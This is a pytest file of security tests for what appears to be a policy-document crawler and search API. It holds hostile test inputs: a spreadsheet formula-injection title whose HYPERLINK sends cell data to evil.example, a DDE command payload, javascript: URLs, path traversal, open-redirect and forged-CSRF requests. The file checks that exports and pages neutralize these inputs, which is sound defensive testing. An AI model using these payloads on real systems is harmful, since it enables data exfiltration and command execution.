"""The attacks of the hardening review, each as a test: hostile pages through a real reindex and
the real API server, staff access through the real sign-in page and tokens, concurrent staff
writers in several worker processes."""
from __future__ import annotations

import csv
import io
import json
import re
import shutil
import sqlite3
import threading
from multiprocessing import get_context
from urllib.parse import urlsplit

import httpx
import pytest
from bs4 import BeautifulSoup
from openpyxl import load_workbook

from analyzers.model import document_id
from analyzers.urls import safe_url
from crawler.raw_store import RawStore
from search_api.security import SECURITY_HEADERS
from search_api.staff_store import StaffStore
from tests.conftest import STAFF_NAME, start_api, zhengce
from tests.hostile import BASE, SCRIPT_URLS, policy_page, put_page
from ui.templating import path_segment

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")关于印发公式注入测试办法的通知'
HOSTILE_PUBLISHER = "@SUM(1+1)*cmd|' /C calc'!A0"


def runs_script(href: str) -> bool:
    """Would a browser run this href as script? (what it strips and folds first, WHATWG)."""
    cleaned = re.sub(r"[\t\n\r]", "", href).strip("".join(chr(c) for c in range(0x21))).lower()
    return cleaned.startswith(("javascript:", "data:", "vbscript:"))


@pytest.fixture(scope="module")
def hostile_data(tmp_path_factory):
    """A raw store of hostile pages, as a crawl would have stored them, and `zhengce reindex`."""
    data = tmp_path_factory.mktemp("hostile")
    links = [(u, f"恶意链接{i}") for i, u in enumerate(SCRIPT_URLS)]
    with RawStore(data / "raw.sqlite3") as store:
        pages = {
            "policy": put_page(store, "zwgk/zcwj/202611/t20261120_1.htm", policy_page(
                "泉港区关于链接安全测试的通知", "<p>各有关单位：为检验链接处理，特制定本通知。</p>",
                doc_number="泉港政〔2026〕1号", attachments=links + [("./ok.pdf", "正常附件.pdf")],
                interpretations=links, canonical=SCRIPT_URLS[0])),
            "interpretation": put_page(store, "zwgk/zcjd/202611/t20261121_2.htm", policy_page(
                "《泉港区关于链接安全测试的通知》解读", "<p>本解读说明通知的要点。</p>", back_links=links,
                canonical="JaVaScRiPt:alert(2)")),
            "formula": put_page(store, "zwgk/zcwj/202611/t20261122_3.htm", policy_page(
                HOSTILE_TITLE, "<p>各镇人民政府：现将办法印发给你们。</p>"
                "<p>（一）公式测试。（责任单位：+区财政局牵头，-区民政局配合）</p>",
                doc_number="泉港政办〔2026〕99号", publisher=HOSTILE_PUBLISHER)),
        }
        # Another site's page that copies the policy and declares the policy's address canonical.
        put_page(store, "copy/t20261120_1.html", policy_page(
            "泉港区关于链接安全测试的通知", "<p>各有关单位：为检验链接处理，特制定本通知。</p>",
            canonical=pages["policy"]), site="generic", base="http://evil.example/")
        put_page(store, "copy/takeover.html", policy_page(
            "被篡改的标题", "<p>这是另一个网站冒充的正文，不应替换原文件。</p>", canonical=pages["policy"]),
            site="generic", base="http://evil.example/")
    reindexed = zhengce(data, "reindex")
    assert reindexed.returncode == 0, reindexed.stdout + reindexed.stderr
    return data, pages


@pytest.fixture(scope="module")
def hostile_api(hostile_data):
    data, _pages = hostile_data
    with start_api(data, workers=1) as url:
        yield url


def test_script_urls_in_every_link_slot_never_become_links(hostile_data, hostile_api):
    _data, pages = hostile_data
    with httpx.Client(base_url=hostile_api) as http:
        for kind in ("policy", "interpretation"):
            doc_id = document_id(pages[kind])  # the script canonical was not taken: the id is the page's
            document = http.get(f"/api/documents/{doc_id}").json()
            assert document["url"] == pages[kind]
            stored = [a["url"] for a in document["attachments"]] + [document["url"], *document["urls"]]
            stored += [link["url"] for link in document["interpretations"] + document["interprets"]]
            assert all(u == "" or safe_url(u) == u for u in stored), stored
            page = http.get(f"/documents/{doc_id}")
            assert page.status_code == 200
            soup = BeautifulSoup(page.text, "lxml")
            hrefs = [a["href"] for a in soup.find_all(href=True)] + [s["src"] for s in soup.find_all(src=True)]
            assert not [h for h in hrefs if runs_script(h)], hrefs
            assert not soup.find(attrs={"onclick": True})
        policy = http.get(f"/documents/{document_id(pages['policy'])}").text
        for i in range(len(SCRIPT_URLS)):
            assert f"恶意链接{i}" in policy  # the anchor's text is kept, as text
        assert 'href="http://127.0.0.1:8001/zwgk/zcwj/202611/ok.pdf"' in policy
        rows = http.get("/api/reports/timeliness", params={"format": "csv"}).content.decode("utf-8-sig")
        for row in csv.DictReader(io.StringIO(rows)):
            assert urlsplit(row["原文链接"]).scheme in ("http", "https")


def test_another_sites_canonical_cannot_take_over_a_document(hostile_data, hostile_api):
    _data, pages = hostile_data
    with httpx.Client(base_url=hostile_api) as http:
        policy = http.get(f"/api/documents/{document_id(pages['policy'])}").json()
        assert (policy["title"], policy["site"]) == ("泉港区关于链接安全测试的通知", "quangang_sample")
        assert all(u.startswith(BASE) for u in policy["urls"]), policy["urls"]  # the copy was not merged in
        found = http.get("/api/search", params={"q": "被篡改的标题"}).json()["results"]
        assert [r["url"] for r in found] == ["http://evil.example/copy/takeover.html"]


def test_exports_neutralize_formula_cells(hostile_data, hostile_api):
    with httpx.Client(base_url=hostile_api) as http:
        body = http.get("/api/reports/timeliness").json()
        assert any(r["title"] == HOSTILE_TITLE for r in body["rows"])  # the JSON keeps the text as it is
        text = http.get("/api/reports/timeliness", params={"format": "csv"}).content.decode("utf-8-sig")
        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        assert "'" + HOSTILE_TITLE in cells and "'" + HOSTILE_PUBLISHER in cells
        assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
        book = load_workbook(io.BytesIO(http.get("/api/reports/timeliness", params={"format": "xlsx"}).content))
        values = []
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                    values.append(cell.value)
        assert "'" + HOSTILE_TITLE in values and "'" + HOSTILE_PUBLISHER in values
        assert not [v for v in values if isinstance(v, str) and v.startswith(FORMULA_STARTS)]


def test_crawled_names_become_one_path_segment():
    assert path_segment("/units/", "../../api/reports") == "/units/..%2F..%2Fapi%2Freports"
    assert path_segment("/units/", "区民政局") == "/units/%E5%8C%BA%E6%B0%91%E6%94%BF%E5%B1%80"
    assert path_segment("/units/", "..") is None and path_segment("/units/", ".") is None


def test_a_unit_named_like_a_route_stays_on_the_unit_page(client):
    response = client.get("/units/..%2F..%2Fapi%2Fhealth")
    assert response.status_code == 404 and "未找到该单位" in response.text


@pytest.mark.parametrize("path", ["/", "/?q=政务公开", "/documents/0123456789abcdef", "/reports/timeliness",
                                  "/units", "/signin", "/docs", "/openapi.json", "/api/search?q=低保",
                                  "/api/health", "/static/style.css", "/no/such/page", "/api/search?size=0"])
def test_security_headers_on_every_response(client, path):
    response = client.get(path)
    for name, value in SECURITY_HEADERS:
        assert response.headers.get(name.decode()) == value.decode(), (path, name)
    policy = response.headers["content-security-policy"]
    assert "unsafe-inline" not in policy and "frame-ancestors 'none'" in policy
    assert "script-src 'self'" in policy


@pytest.mark.parametrize("path", ["/", "/?q=政务公开", "/reports/timeliness", "/units", "/signin", "/docs"])
def test_pages_have_no_inline_script_and_load_nothing_from_elsewhere(client, path):
    soup = BeautifulSoup(client.get(path).text, "lxml")
    for script in soup.find_all("script"):
        assert script.get("src", "").startswith("/static/") and not script.string, (path, script)
    for tag in soup.find_all(["link", "img", "script"]):
        source = tag.get("href") or tag.get("src") or ""
        assert not urlsplit(source).netloc, (path, source)
    assert not soup.find(style=True) and not soup.find("style"), path


def test_requests_for_another_host_are_refused(client, staff_token):
    assert client.get("/api/health", headers={"Host": "evil.example"}).status_code == 400
    refused = client.put("/api/reports/timeliness/scope/0123456789abcdef", json={"include": False},
                         headers={"Host": "evil.example", "Authorization": f"Bearer {staff_token}"})
    assert refused.status_code == 400
    assert client.get("/api/health", headers={"Host": "localhost"}).status_code == 200


def _signed_in(api_url: str, token: str, **client_options) -> httpx.Client:
    """A browser-like client signed in through the sign-in form."""
    http = httpx.Client(base_url=api_url, follow_redirects=False, **client_options)
    form = BeautifulSoup(http.get("/signin").text, "lxml")
    csrf = form.find("input", {"name": "csrf"})["value"]
    answer = http.post("/signin", data={"name": STAFF_NAME, "secret": token, "csrf": csrf, "next": "/reports/timeliness"})
    assert answer.status_code == 303 and answer.headers["location"] == "/reports/timeliness", answer.text
    return http


def _policy_id(client) -> str:
    return client.get("/api/reports/timeliness").json()["rows"][0]["policy_id"]


def test_session_cookie_and_csrf(api_url, client, staff_token):
    url = f"/api/reports/timeliness/scope/{_policy_id(client)}"
    http = _signed_in(api_url, staff_token)
    try:
        cookie = next(h for h in http.cookies.jar if h.name == "zhengce_session")
        assert cookie.has_nonstandard_attr("HttpOnly") and cookie.path == "/" and not cookie.secure
        page = http.get("/reports/timeliness")
        csrf = BeautifulSoup(page.text, "lxml").find("meta", {"name": "csrf-token"})["content"]
        assert http.put(url, json={"include": False}).status_code == 403  # the cookie alone: no
        assert http.put(url, json={"include": False}, headers={"X-CSRF-Token": "forged"}).status_code == 403
        cross = http.put(url, json={"include": False},
                         headers={"X-CSRF-Token": csrf, "Origin": "http://evil.example"})
        assert cross.status_code == 403
        try:
            assert http.put(url, json={"include": False}, headers={"X-CSRF-Token": csrf}).status_code == 200
        finally:
            assert http.delete(url, headers={"X-CSRF-Token": csrf}).status_code == 204
        assert http.post("/signout", data={"csrf": "forged"}).status_code == 403
        assert http.post("/signout", data={"csrf": csrf}).status_code == 303
        assert http.put(url, json={"include": False}, headers={"X-CSRF-Token": csrf}).status_code == 401
    finally:
        http.close()


def test_sign_in_cookie_attributes_and_refusals(api_url, staff_token):
    with httpx.Client(base_url=api_url) as http:
        form = BeautifulSoup(http.get("/signin").text, "lxml")
        csrf = form.find("input", {"name": "csrf"})["value"]
        # Behind the nginx front (X-Forwarded-Proto from 127.0.0.1) the cookie is Secure.
        answer = http.post("/signin", data={"name": STAFF_NAME, "secret": staff_token, "csrf": csrf},
                           headers={"X-Forwarded-Proto": "https"})
        assert answer.status_code == 303
        sent = answer.headers["set-cookie"].lower()
        assert "zhengce_session=" in sent and "httponly" in sent and "samesite=strict" in sent and "secure" in sent
    with httpx.Client(base_url=api_url) as http:
        http.get("/signin")
        assert http.post("/signin", data={"name": STAFF_NAME, "secret": staff_token, "csrf": "x"}).status_code == 403
        form = BeautifulSoup(http.get("/signin").text, "lxml")
        csrf = form.find("input", {"name": "csrf"})["value"]
        wrong = http.post("/signin", data={"name": STAFF_NAME, "secret": "zc_wrong", "csrf": csrf})
        assert wrong.status_code == 401 and "zhengce_session" not in wrong.headers.get("set-cookie", "")
        form = BeautifulSoup(http.get("/signin").text, "lxml")
        csrf = form.find("input", {"name": "csrf"})["value"]
        away = http.post("/signin", data={"name": STAFF_NAME, "secret": staff_token, "csrf": csrf,
                                          "next": "//evil.example/"}, follow_redirects=False)
        assert away.headers["location"] == "/reports/timeliness"  # never back to another site


def test_the_public_sees_no_staff_controls(client):
    page = client.get("/reports/timeliness").text
    assert "button class=\"scope\"" not in page and "scope.js" not in page and "csrf-token" not in page
    assert client.get("/staff/audit", follow_redirects=False).headers["location"].startswith("/signin")
    assert client.get("/api/staff/me").status_code == 401
    assert client.get("/api/staff/me", headers={"Authorization": "Bearer zc_not-a-token"}).status_code == 401


def test_staff_password_sign_in(api_url, data_dir):
    set_password = zhengce(data_dir, "staff", "password", STAFF_NAME, input_text="ein langes Passwort 123\n")
    assert set_password.returncode == 0, set_password.stderr
    with httpx.Client(base_url=api_url) as http:
        csrf = BeautifulSoup(http.get("/signin").text, "lxml").find("input", {"name": "csrf"})["value"]
        answer = http.post("/signin", data={"name": STAFF_NAME, "secret": "ein langes Passwort 123", "csrf": csrf})
        assert answer.status_code == 303
        assert http.get("/api/staff/me").json() == {"name": STAFF_NAME, "via": "session"}


@pytest.mark.parametrize("query", ["发布:9999", "发布:1600..2016", "发布:0001-01-01", "发布:2262-04-12..",
                                   "发布:1677-09-21", "发布:99999999"])
def test_dates_outside_what_engines_store_are_words(client, query):
    for path in ("/api/search", "/"):
        response = client.get(path, params={"q": query})
        assert response.status_code == 200, (path, query, response.text[:200])
    assert any("按普通词处理" in note for note in client.get("/api/search", params={"q": query}).json()["notes"])


@pytest.mark.parametrize("params", [{"from": "1600-01-01"}, {"to": "9999-12-31"}, {"as_of": "0001-01-01"},
                                    {"as_of": "2262-04-12"}, {"from": "1677-09-21", "format": "csv"}])
def test_report_dates_outside_what_engines_store_are_refused(client, params):
    response = client.get("/api/reports/timeliness", params=params)
    assert response.status_code == 422 and "1700" in response.text, response.text
    assert client.get("/reports/timeliness", params={k: v for k, v in params.items() if k != "as_of"}).status_code in (200, 422)


@pytest.mark.parametrize("body", [b'{"include": NaN}', b'{"include": Infinity}', b'{"include": -Infinity}',
                                  b'{"include": true, "reason": "\\ud800"}', b'{"include": true, "reason": "\\udfff x"}',
                                  b'{"include": 1e999}', b'{"include": true, "reason": "\xff\xfe"}',
                                  b'[' * 50000 + b']' * 50000, b'{"include": true, "reason": ' + b'"a"' * 3 + b'}'])
def test_hostile_json_bodies_are_client_errors(staff_client, client, body):
    url = f"/api/reports/timeliness/scope/{_policy_id(client)}"
    response = staff_client.put(url, content=body, headers={"content-type": "application/json"})
    assert 400 <= response.status_code < 500, (body[:40], response.status_code, response.text[:200])
    json.loads(response.text)  # the error itself is valid JSON


def _write_scope_decisions(api_url: str, token: str, doc_ids: list[str], worker: int, rounds: int,
                           errors: list) -> None:
    with httpx.Client(base_url=api_url, headers={"Authorization": f"Bearer {token}"}, timeout=60) as http:
        for n in range(rounds):
            doc_id = doc_ids[n % len(doc_ids)]
            if n % 5 == 4:
                answer = http.delete(f"/api/reports/timeliness/scope/{doc_id}")
            else:
                answer = http.put(f"/api/reports/timeliness/scope/{doc_id}",
                                  json={"include": n % 2 == 0, "reason": f"worker {worker} round {n}"})
            if answer.status_code not in (200, 204):
                errors.append((worker, n, answer.status_code, answer.text))


def test_concurrent_staff_writers_in_several_workers_lose_nothing(data_dir, tmp_path, staff_token):
    """4 clients × 25 changes against 3 worker processes: every change recorded, nothing corrupt.
    (The JSON file of earlier versions was corrupt after this in 8 of 8 trials.)"""
    copy = tmp_path / "data"
    shutil.copytree(data_dir, copy, ignore=shutil.ignore_patterns("*.lock", "staff.sqlite3*"))
    token = zhengce(copy, "staff", "add", "并发").stdout.strip().splitlines()[-1]
    with start_api(copy, workers=3) as url:
        rows = httpx.get(f"{url}/api/reports/timeliness").json()["rows"]
        ids = [r["policy_id"] for r in rows][:8]
        errors: list = []
        clients = [threading.Thread(target=_write_scope_decisions, args=(url, token, ids[w * 2:w * 2 + 2], w, 25, errors))
                   for w in range(4)]
        for thread in clients:
            thread.start()
        for thread in clients:
            thread.join()
        assert errors == []
        assert httpx.get(f"{url}/api/reports/timeliness").status_code == 200
        audit = httpx.get(f"{url}/api/staff/audit", params={"limit": 500}, headers={"Authorization": f"Bearer {token}"}).json()
    changes = [e for e in audit if e["actor"] == "并发" and e["action"].startswith("scope.")]
    assert len(changes) == 100
    with sqlite3.connect(copy / "staff.sqlite3") as db:
        assert db.execute("PRAGMA integrity_check").fetchone() == ("ok",)
    decisions = StaffStore(copy / "staff.sqlite3").scope_decisions()
    for worker in range(4):  # each client's last change to each of its two documents stands
        for offset, doc_id in enumerate(ids[worker * 2:worker * 2 + 2]):
            last = max(n for n in range(25) if n % 2 == offset)
            if last % 5 == 4:
                assert doc_id not in decisions
            else:
                assert decisions[doc_id].include is (last % 2 == 0)
                assert decisions[doc_id].reason == f"worker {worker} round {last}"


def _store_writer(path: str, worker: int) -> None:
    store = StaffStore(path)
    for n in range(50):
        store.set_scope(f"{worker:08x}{n:08x}", n % 2 == 0, f"进程{worker}", "并发写入")


def test_staff_store_across_processes_loses_nothing(tmp_path):
    path = tmp_path / "staff.sqlite3"
    StaffStore(path)
    processes = [get_context("spawn").Process(target=_store_writer, args=(str(path), w)) for w in range(4)]
    for process in processes:
        process.start()
    for process in processes:
        process.join(60)
        assert process.exitcode == 0
    store = StaffStore(path)
    assert len(store.scope_decisions()) == 200
    assert len([e for e in store.audit_log(500) if e.action.startswith("scope.")]) == 200


def test_an_existing_scope_file_is_imported_once(tmp_path):
    legacy = tmp_path / "timeliness_scope.json"
    legacy.write_text(json.dumps({"0123456789abcdef": False, "fedcba9876543210": True}), encoding="utf-8")
    store = StaffStore(tmp_path / "staff.sqlite3", legacy_scope_file=legacy)
    assert store.scope_overrides() == {"0123456789abcdef": False, "fedcba9876543210": True}
    store.set_scope("0123456789abcdef", True, "张三")
    StaffStore(tmp_path / "staff.sqlite3", legacy_scope_file=legacy)  # opened again: not imported again
    assert store.scope_overrides()["0123456789abcdef"] is True
    assert [e.action for e in store.audit_log()].count("scope.import") == 1
